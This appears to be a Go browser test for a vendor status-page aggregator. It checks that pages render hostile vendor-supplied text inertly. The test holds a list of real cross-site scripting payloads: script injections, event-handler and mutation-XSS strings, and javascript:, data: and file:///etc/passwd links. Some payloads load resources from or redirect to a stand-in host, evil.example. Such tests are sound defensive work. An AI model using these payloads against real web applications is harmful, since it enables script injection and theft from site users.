//go:build browser

package pages_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"vendorwatch/cmd/internal/web"
	. "vendorwatch/cmd/internal/web/webtest"
	"vendorwatch/db/query"
	"vendorwatch/db/record"
	"vendorwatch/normalize"
)

// attacks are texts that would run a script, or send a request to another server, if they were taken for HTML, for
// Markdown of ours, or for a link. An attack that works sets window.pwned.
var attacks = []string{
	`<script>window.pwned=1</script>`,
	`</title><script>window.pwned=1</script>`,
	`</textarea></style></noscript></template></svg><script>window.pwned=1</script>`,
	`<img src=x onerror="window.pwned=1">`,
	`"><img src="https://evil.example/a.png" onerror=window.pwned=1 x="`,
	`' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1`,
	`<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>`,
	`<svg><script href="https://evil.example/s.js"></script></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
	`<iframe srcdoc="<script>parent.pwned=1</script>" src="https://evil.example/"></iframe>`,
	`<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
	`<link rel=stylesheet href=https://evil.example/c.css>` +
		`<style>@import "https://evil.example/i.css";*{display:none}</style>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">`,
	`<form action="https://evil.example/"><input autofocus onfocus=window.pwned=1><button>Go</button></form>`,
	`<details open ontoggle=window.pwned=1><video><source onerror=window.pwned=1></video><body onload=window.pwned=1>`,
	`[click](javascript:window.pwned=1) <javascript:window.pwned=1> [x]: javascript:window.pwned=1`,
	`[click](java&#115;cript:window.pwned=1) [click](JaVaScRiPt:window.pwned=1) [click](<javascript:window.pwned=1>)`,
	"[click][r]\n\n[r]: <javascript:window.pwned=1> \"x\"\n\n[tab](java\tscript:window.pwned=1) " +
		"[nul](java\x00script:window.pwned=1)",
	`[data](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==) ` +
		`[vb](vbscript:window.pwned=1) [f](file:///etc/passwd) [b](blob:x)`,
	`![track](https://evil.example/p.png) ![x](x" onerror="window.pwned=1) ![a](javascript:window.pwned=1)`,
	`[t](https://evil.example/ "a\" onmouseover=window.pwned=1 x=\"") [h](//evil.example/h)`,
	"``` html onload=window.pwned=1\n<script>window.pwned=1</script>\n```",
	"<!-- --!><script>window.pwned=1</script> --> <![CDATA[<script>window.pwned=1</script>]]> <?php ?>",
	`{{.}} {{define "x"}} ${window.pwned=1} ` + "`${window.pwned=1}`" + ` \u003cscript>window.pwned=1\u003c/script>`,
	"all is \u202egnp.exe\u202c well \u2066\u200b\u0000\u0007",
	"\ufeff\xc0\xbcscript>window.pwned=1\xc0\xbc/script>",
}

// What a vendor writes is shown as text on every page: no script in it runs, no request goes to another server, every
// link leads to http or https, and the text stays in its place.
func TestBrowserHostileVendor(t *testing.T) {
	r := NewRecord(t, web.Options{})
	all := strings.Join(attacks, "\n\n")
	id := r.Vendor(query.Vendor{Slug: "evil", Name: "Evil " + attacks[0] + attacks[1] + attacks[24],
		Homepage: "javascript:window.pwned=1", Owner: attacks[3],
		RunbookURL: "data:text/html,<script>window.pwned=1</script>"})
	r.Vendor(query.Vendor{Slug: "good", Name: "Good"})
	s := record.Scrape{SourceID: id, At: Before(10 * Day), AllOpen: true, AllComponents: true, Indicator: attacks[2],
		CoverageStart: Before(30 * Day)}
	var raws []normalize.Raw
	for n, Attack := range attacks {
		c := normalize.RawComponent{ID: fmt.Sprint("c", n), Name: Attack, Group: attacks[(n+1)%len(attacks)]}
		s.Components = append(s.Components, normalize.Component{Key: c.ID, Name: c.Name, Group: c.Group,
			Status: normalize.StatusMajor, VendorStatus: Attack})
		raw := Incident(fmt.Sprint("e", n), Attack, Attack, []normalize.RawComponent{c},
			Says("investigating", Before(2*Hour), Attack), Says(Attack, Before(Hour), all))
		raw.URL, raw.State = "javascript:window.pwned=1//"+fmt.Sprint(n), Attack
		if n%5 == 4 {
			raw.Kind, raw.ScheduledStart, raw.ScheduledEnd = "maintenance", At(Now.Add(Hour)), At(Now.Add(2*Hour))
		}
		raws = append(raws, raw)
	}
	s.Incidents = Read(raws...)
	s.Findings = []normalize.Finding{{Field: "state", Value: attacks[3], Problem: attacks[6]}}
	r.Save(s)
	for n := range raws { // the vendor edits everything
		raws[n].Title = "Edited: " + raws[n].Title
		raws[n].Updates[0].Body = attacks[(n+3)%len(attacks)]
		raws[n].Updates = append(raws[n].Updates, Says("postmortem", Before(30*Minute), all))
	}
	s.At, s.Incidents = Before(9*Day), Read(raws...)
	r.Save(s)
	for n := range 3 {
		r.Save(record.Scrape{SourceID: id, At: Before(time.Duration(90-n) * Minute), HTTPStatus: 500,
			Err: fmt.Errorf("fetch: %s", all)})
	}

	tb := openTab(t, startBrowser(t), r.URL, light)
	paths := []string{"/", "/wall", "/trends", "/vendors", "/vendors/evil", "/history", "/maintenance", "/health",
		"/nowhere/%3Cscript%3Ewindow.pwned=1%3C/script%3E"}
	for n := range attacks {
		paths = append(paths, fmt.Sprint("/incidents/", n+1))
	}
	for _, n := range []int{0, 1, 4, 5, 23} {
		paths = append(paths, "/history?q="+url.QueryEscape(attacks[n]),
			"/history?component="+url.QueryEscape(attacks[n]), "/history?vendor="+url.QueryEscape(
				attacks[n]), "/history?state="+url.QueryEscape(attacks[n]))
	}
	for _, path := range paths {
		t.Run(path[:min(len(path), 60)], func(t *testing.T) {
			tb.t = t
			tb.open(path)
			// Handlers run on the pointer and the focus. A script that got in has had its chance by then.
			eval[bool](tb, touchEverything)
			if n := eval[int](tb, `Number(window.pwned || 0)`); n != 0 {
				t.Error("a script of the vendor ran")
			}
			if links := eval[[]string](tb, badLinks); len(links) > 0 {
				t.Errorf("links that lead elsewhere than to http: %q", links)
			}
			if found := eval[[]string](tb, foreign); len(found) > 0 {
				t.Errorf("elements of the vendor: %q", found)
			}
			text := eval[string](tb, `document.title +
				[...document.querySelectorAll("h1, h2, h3, a, b, td, .vendor")].map((e) => e.textContent).join("")`)
			if strings.ContainsAny(text, "\u202a\u202b\u202d\u202e\u2066\u2067\u2068") {
				t.Error("a title turns round the direction in which what follows it is read")
			}
			tb.fine()
		})
	}
}

const touchEverything = `(async () => {
	for (const e of document.querySelectorAll("main *, header *, footer *")) {
		for (const kind of ["mouseover", "focus", "toggle", "error", "load"]) e.dispatchEvent(new Event(kind));
	}
	for (const d of document.querySelectorAll("details")) d.open = true;
	await new Promise((done) => setTimeout(done, 0));
	return true;
})()`

const badLinks = `[...document.querySelectorAll(
		"[href], [src], [action], [formaction], [data], [srcset], [ping], [*|href]")]
	.flatMap((e) => ["href", "src", "action", "formaction", "data", "srcset", "ping", "xlink:href"]
		.map((a) => e.getAttribute(a)).filter((v) => v !== null))
	.filter((v) => !["http:", "https:"].includes(new URL(v, location.href).protocol))`

const foreign = `[...document.querySelectorAll("script:not([src^='/static/']), style, link:not([href^='/']), base, " +
		"meta[http-equiv], iframe, object, embed, video, math, main img, textarea, " +
		"form:not(.find):not(.filters):not(.choice):not(.quick), " +
		"svg:not(.bar):not(.fig)")]
	.map((e) => e.outerHTML)
	.concat([...document.querySelectorAll("*")]
		.filter((e) => e.getAttributeNames().some((n) => n.startsWith("on") || n === "style" || n === "srcdoc"))
		.map((e) => e.outerHTML.slice(0, 200)))`
